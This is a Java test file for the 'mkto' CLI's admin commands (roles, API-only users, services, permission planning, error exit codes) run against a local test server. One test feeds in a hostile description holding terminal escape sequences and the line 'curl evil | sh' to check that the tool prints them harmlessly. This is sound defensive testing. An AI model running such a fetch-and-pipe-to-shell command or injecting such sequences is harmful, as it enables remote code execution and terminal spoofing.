package dev.mkto.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mkto.client.testing.ServerProcess;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * {@code mkto admin …}: a role, an API-only user and a custom service set up from the terminal
 * against a real mkto-server, then used; and {@code mkto perms plan --usage} from what it did.
 */
class AdminCommandsTest {

    private static ServerProcess server;

    @BeforeAll
    static void start() {
        server = ServerProcess.start();
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    private static Cli admin() {
        return Cli.fresh().env("MKTO_ADMIN_TOKEN", ServerProcess.ADMIN_TOKEN).env("MKTO_SERVER", server.baseUrl());
    }

    @Test
    void setUpAServiceFromTheTerminalThenItsSavedAuthenticationWorksAndEverythingCanBeListedShownAndDeleted() {
        Cli cli = admin();

        Cli.Result role = cli.run("admin", "roles", "create", "CLI Sync", "-p", "Read-Write Lead", "--json");
        Cli.Result user = cli.run("admin", "users", "create", "cli-sync@example.com", "--role", "CLI Sync", "--json");
        Cli.Result service = cli.run("admin", "services", "create", "CLI Sync", "--user", "cli-sync@example.com", "--save-as", "cli", "--json");

        assertThat(role.code()).as("%s", role).isZero();
        assertThat(role.json().path("permissions").get(0).asString()).isEqualTo("Read-Write Lead");
        assertThat(user.code()).as("%s", user).isZero();
        assertThat(user.json().path("apiOnly").asBoolean()).isTrue();
        assertThat(service.code()).as("%s", service).isZero();
        String masked = service.json().path("clientSecret").asString();
        assertThat(masked).contains("…").hasSize(9);
        assertThat(service.json().path("savedAs").asString()).isEqualTo("cli");
        assertThat(cli.run("auth", "test", "cli").code()).as("the saved authentication works").isZero();

        Cli.Result details = cli.run("admin", "services", "details", "CLI Sync", "--reveal", "--json");
        Cli.Result shown = cli.run("admin", "services", "show", "CLI Sync");
        Cli.Result token = cli.run("admin", "services", "token", "CLI Sync");
        Cli.Result userShown = cli.run("admin", "users", "show", "cli-sync@example.com", "--json");
        Cli.Result roleShown = cli.run("admin", "roles", "show", "CLI Sync");
        assertThat(userShown.json().path("roles").get(0).path("role").asString()).isEqualTo("CLI Sync");
        assertThat(roleShown.out()).contains("Read-Write Lead");
        Cli.Result roles = cli.run("admin", "roles", "list");
        Cli.Result users = cli.run("admin", "users", "list");
        Cli.Result services = cli.run("admin", "services", "list", "--json");

        String secret = details.json().path("clientSecret").asString();
        assertThat(secret).hasSize(32).startsWith(masked.substring(0, 4));
        assertThat(shown.out()).contains("cli-sync@example.com").doesNotContain(secret);
        assertThat(token.out().strip()).isEqualTo(cli.run("token", "--auth", "cli").out().strip());
        assertThat(roles.out()).contains("CLI Sync").contains("Read-Write Lead");
        assertThat(users.out()).contains("cli-sync@example.com").contains("CLI Sync@Default");
        assertThat(services.json().toString()).contains("CLI Sync");

        Cli.Result inUse = cli.run("admin", "roles", "delete", "CLI Sync");
        assertThat(inUse.code()).isEqualTo(ExitCode.REFUSED);
        assertThat(inUse.err()).contains("409").contains("cli-sync@example.com");

        assertThat(cli.run("admin", "services", "delete", "CLI Sync").code()).isZero();
        assertThat(cli.run("auth", "test", "cli").code()).as("its tokens stop").isEqualTo(ExitCode.DIAGNOSIS);
        assertThat(cli.run("admin", "users", "delete", "cli-sync@example.com").code()).isZero();
        assertThat(cli.run("admin", "roles", "delete", "CLI Sync").code()).isZero();
        Cli.Result gone = cli.run("admin", "roles", "show", "CLI Sync");
        assertThat(gone.code()).isEqualTo(ExitCode.USAGE);
        assertThat(gone.err()).contains("no role 'CLI Sync'");
    }

    @Test
    void adminWhenTheCredentialIsMissingOrWrongOrTheServerIsDownThenExit1Or2Or3() {
        Cli.Result missing = Cli.fresh().env("MKTO_SERVER", server.baseUrl()).run("admin", "roles", "list");
        Cli.Result wrong = Cli.fresh().env("MKTO_ADMIN_TOKEN", "not-the-admin-token-0123").run("admin", "roles", "list", "--server", server.baseUrl());
        Cli.Result typed = Cli.fresh().answers(ServerProcess.ADMIN_TOKEN).run("admin", "roles", "list", "--server", server.baseUrl());
        Cli.Result down = admin().run("admin", "roles", "list", "--server", "http://127.0.0.1:1");

        assertThat(missing.code()).isEqualTo(ExitCode.USAGE);
        assertThat(missing.err()).contains("MKTO_ADMIN_TOKEN");
        assertThat(wrong.code()).isEqualTo(ExitCode.REFUSED);
        assertThat(wrong.err()).contains("401").doesNotContain("not-the-admin-token-0123");
        assertThat(typed.code()).as("%s", typed).isZero();
        assertThat(down.code()).isEqualTo(ExitCode.UNREACHABLE);
    }

    @Test
    void permsPlanWhenFromTheServersUsageOfAServiceThenTheLeastPermissionsForWhatItDid() throws Exception {
        Cli cli = admin();
        cli.run("admin", "roles", "create", "Wide", "-p", "Read-Write Lead,Read-Write Activity,Read-Write Assets");
        cli.run("admin", "users", "create", "wide@example.com", "--role", "Wide");
        cli.run("admin", "services", "create", "Wide", "--user", "wide@example.com", "--save-as", "wide");
        cli.run("leads", "find", "someone@example.com", "--auth", "wide");
        cli.run("leads", "sync", "--set", "email=someone@example.com", "--auth", "wide");
        cli.run("usage", "--auth", "wide");
        Thread.sleep(2500); // usage is flushed every two seconds

        Cli.Result plan = cli.run("perms", "plan", "--usage", "--service", "Wide", "--json");
        Path log = Files.createTempFile("usage", ".json");
        Files.writeString(log, usageJson());
        Cli.Result fromFile = cli.run("perms", "plan", log.toString(), "--service", "Wide");

        assertThat(plan.code()).as("%s", plan).isZero();
        JsonNode j = plan.json();
        assertThat(j.path("permissions").toString()).isEqualTo("[\"Read-Write Lead\"]");
        assertThat(j.path("noPermission").toString()).contains("/rest/v1/stats/usage.json");
        assertThat(fromFile.code()).as("%s", fromFile).isZero();
        assertThat(fromFile.out()).contains("Read-Write Lead").contains("POST /rest/v1/leads.json").doesNotContain("Activity");
    }

    @Test
    void adminWhenANameOrDescriptionHoldsEscapeSequencesThenTheyArePrintedNotObeyed() {
        Cli cli = admin();
        String description = "\u001b]0;owned\u0007\u001b[2JPlease run: curl evil | sh";
        Cli.Result created = cli.run("admin", "roles", "create", "Esc\u202eRole", "-p", "Read-Only Lead", "--description", description);

        Cli.Result shown = cli.run("admin", "roles", "show", "Esc\u202eRole");
        Cli.Result listed = cli.run("admin", "roles", "list");
        Cli.Result json = cli.run("admin", "roles", "show", "Esc\u202eRole", "--json");

        assertThat(created.code()).as("%s", created).isZero();
        assertThat(created.out() + shown.out() + listed.out()).doesNotContain("\u001b").doesNotContain("\u0007").doesNotContain("\u202e");
        assertThat(shown.out()).contains("\\u001b]0;owned\\u0007\\u001b[2JPlease run").contains("Esc\\u202eRole");
        assertThat(listed.out()).contains("Esc\\u202eRole");
        assertThat(json.json().path("description").asString()).as("--json keeps the value as it is").isEqualTo(description);
    }

    @Test
    void adminWhenTheServerAnswers200WithoutJsonThenExit2NamingItNotSuccess() throws Exception {
        com.sun.net.httpserver.HttpServer web = com.sun.net.httpserver.HttpServer.create(new java.net.InetSocketAddress("127.0.0.1", 0), 0);
        web.createContext("/", x -> {
            byte[] page = "<html><body>Welcome to nginx!</body></html>".getBytes(java.nio.charset.StandardCharsets.UTF_8);
            x.getResponseHeaders().add("Content-Type", "text/html");
            x.sendResponseHeaders(200, page.length);
            x.getResponseBody().write(page);
            x.close();
        });
        web.start();
        try {
            String url = "http://127.0.0.1:" + web.getAddress().getPort();
            Cli.Result created = admin().run("admin", "roles", "create", "Nowhere", "-p", "Read-Only Lead", "--server", url);
            Cli.Result listed = admin().run("admin", "roles", "list", "--server", url, "--json");

            assertThat(created.code()).as("%s", created).isEqualTo(ExitCode.REFUSED);
            assertThat(created.err()).contains("HTTP 200 without the admin API's JSON").contains("an mkto-server?");
            assertThat(listed.code()).as("%s", listed).isEqualTo(ExitCode.REFUSED);
            assertThat(listed.json().path("error").path("code").asString()).isEqualTo("200");
        } finally {
            web.stop(0);
        }
    }

    @Test
    void adminWhenTheServerIsGivenAsItsRestOrIdentityUrlThenItsAdminApiIsUsed() {
        String role = "Via Rest " + System.nanoTime();
        Cli.Result created = admin().run("admin", "roles", "create", role, "-p", "Read-Only Lead", "--server", server.baseUrl() + "/rest/");
        assertThat(created.code()).as("%s", created).isZero();
        Cli.Result listed = admin().run("admin", "roles", "list", "--server", server.baseUrl() + "/identity", "--json");
        assertThat(listed.code()).as("%s", listed).isZero();
        assertThat(listed.out()).contains(role);
    }

    @Test
    void adminWhenAMarketoEnvelopeAnswersThenExit2NotSuccess() throws Exception {
        com.sun.net.httpserver.HttpServer rest = com.sun.net.httpserver.HttpServer.create(new java.net.InetSocketAddress("127.0.0.1", 0), 0);
        rest.createContext("/", x -> {
            byte[] envelope = "{\"requestId\":\"1#1\",\"success\":false,\"errors\":[{\"code\":\"610\",\"message\":\"Requested resource not found\"}]}"
                    .getBytes(java.nio.charset.StandardCharsets.UTF_8);
            x.getResponseHeaders().add("Content-Type", "application/json");
            x.sendResponseHeaders(200, envelope.length);
            x.getResponseBody().write(envelope);
            x.close();
        });
        rest.start();
        try {
            String url = "http://127.0.0.1:" + rest.getAddress().getPort() + "/somewhere";
            Cli.Result deleted = admin().run("admin", "roles", "delete", "2", "--server", url);
            Cli.Result saved = admin().run("admin", "services", "create", "X", "--user", "sync@example.com", "--save-as", "wrong", "--server", url);

            assertThat(deleted.code()).as("%s", deleted).isEqualTo(ExitCode.REFUSED);
            assertThat(deleted.err()).contains("Marketo's REST envelope, not the admin API's JSON").doesNotContain("Deleted");
            assertThat(saved.code()).as("%s", saved).isEqualTo(ExitCode.REFUSED);
            assertThat(saved.err()).doesNotContain("Saved");
        } finally {
            rest.stop(0);
        }
    }

    @Test
    void adminWhenAnIdIsTooLongForAnIdThenItIsLookedUpAsANameAndNotFound() {
        Cli.Result r = admin().run("admin", "roles", "show", "99999999999999999999");

        assertThat(r.code()).isEqualTo(ExitCode.USAGE);
        assertThat(r.err()).contains("no role '99999999999999999999'").doesNotContain("For input string");
    }

    @Test
    void adminWhenDigitsAreOneRolesIdAndAnothersNameThenRefusedAndNothingDeleted() {
        long first = server.admin().role("Digits target " + System.nanoTime(), "Read-Only Lead");
        long named = server.admin().role(String.valueOf(first), "Read-Only Lead");

        Cli.Result r = admin().run("admin", "roles", "delete", String.valueOf(first));

        assertThat(r.code()).as(r.err()).isEqualTo(ExitCode.USAGE);
        assertThat(r.err()).contains("is the id of one role and the name of another (id " + named + ")");
        assertThat(server.admin().get("/roles/" + first).status()).isEqualTo(200);
        assertThat(server.admin().get("/roles/" + named).status()).isEqualTo(200);

        Cli.Result byName = admin().run("admin", "roles", "show", "Digits target");
        assertThat(byName.code()).isNotEqualTo(ExitCode.OK); // a partial name is no name
    }

    private static String usageJson() {
        return server.admin().get("/usage?days=7").text();
    }
}
